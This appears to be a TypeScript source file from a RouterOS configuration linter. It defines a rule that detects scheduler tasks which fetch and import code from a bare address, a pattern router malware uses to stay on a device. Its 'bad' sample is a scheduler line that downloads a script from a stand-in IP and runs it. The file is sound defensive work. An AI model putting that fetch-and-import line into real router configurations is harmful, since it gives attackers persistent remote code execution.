import type { BoundCommand, Model } from "../../model/model.ts";
import { hasImplantName, isImplant, isPoll } from "../facts/implant.ts";
import { strangerAddress } from "../facts/public-address.ts";
import { fetchedCode } from "../facts/remote-code.ts";
import { downloadOf, downloadsOf, scriptsOf, textOf } from "../facts/scripts.ts";
import { defineRule, type Finding, type Fix } from "../rule.ts";

/** What router malware leaves behind: a task that keeps fetching orders from an address and importing them. */
export const schedulerFetchImplant = defineRule({
  id: "scheduler-fetch-implant",
  group: "scripts",
  title: "Script as malware leaves it",
  severity: "error",
  why: "Scripts that fetch code from a bare address and run it are how malware keeps its hold on routers.",
  advice: "If it is not yours: netinstall the router, change all passwords, and restore from a clean export.",
  references: ["Manual: Securing your router", "CVE-2018-14847"],
  compliance: ["S"],
  cwe: [506],
  presets: ["recommended", "strict"],
  bad: '/system scheduler\nadd interval=1d name=U6 on-event="/tool fetch url=http://198.51.100.7/a src-path=a dst-path=a.rsc\\r\\n/import a.rsc"\n',
  good: '/system scheduler\nadd interval=1d name=update on-event="/tool fetch url=http://192.168.88.7/a.rsc dst-path=a.rsc\\r\\n/import a.rsc"\nadd interval=1d name=U6 on-event="/log info daily"\n',
  fixes: { disable: "suggestion" },
  on: "model",
  check(model) {
    const found = new Map<BoundCommand, Finding>();
    for (const one of model.derive(fetchedCode)) {
      if (!isImplant(one)) continue;
      const { command, host } = one.download;
      found.set(command, {
        at: { command },
        message: `${owner(one.script.holder)} fetches code from \`${host ?? "a server"}\`${strangerAddress(host) === undefined ? "" : ", a bare address,"} and runs it, as router malware does.`,
        related: [{ at: { command: one.runner }, message: "it is run here" }],
        ...standing(one.script.holder, model),
      });
    }
    return [
      ...found.values(),
      ...suspiciousTasks(model).filter(({ at }) => !("command" in at && found.has(at.command))),
    ];
  },
});

/** A task of such a name that fetches, or one that asks for orders, even where what it runs is not seen. */
function suspiciousTasks(model: Model): Finding[] {
  if (model.gather(downloadsOf).length === 0) return [];
  return model.derive(scriptsOf).flatMap((script) =>
    script.commands.flatMap((command): Finding[] => {
      const download = downloadOf(command);
      if (download === undefined || !(isPoll(download) || hasImplantName(script.holder))) return [];
      return [
        {
          at: { command },
          message: `${owner(script.holder)} fetches from \`${download.host ?? "a server"}\`; its ${isPoll(download) ? "address" : "name"} is one that router malware uses.`,
          ...standing(script.holder, model),
        },
      ];
    }),
  );
}

/** Switched off it does no more harm, but still tells of the break-in. A script of the script menu cannot be switched off. */
function standing(holder: BoundCommand | undefined, model: Model): Pick<Finding, "severity" | "fixes"> {
  const item = holder?.menu === "/system/scheduler" ? model.itemOf(holder) : undefined;
  if (item === undefined) return {};
  if (item.isDisabled !== false) return { severity: "warning" };
  const disable: Fix = {
    id: "disable",
    title: "Disable the scheduler",
    changes: [{ kind: "set", item, properties: { disabled: "yes" } }],
  };
  return { fixes: [disable] };
}

function owner(holder: BoundCommand | undefined): string {
  const name = holder === undefined ? undefined : textOf(holder, "name");
  if (name === undefined) return "A script";
  return `${holder?.menu === "/system/scheduler" ? "Scheduler" : "Script"} \`${name}\``;
}
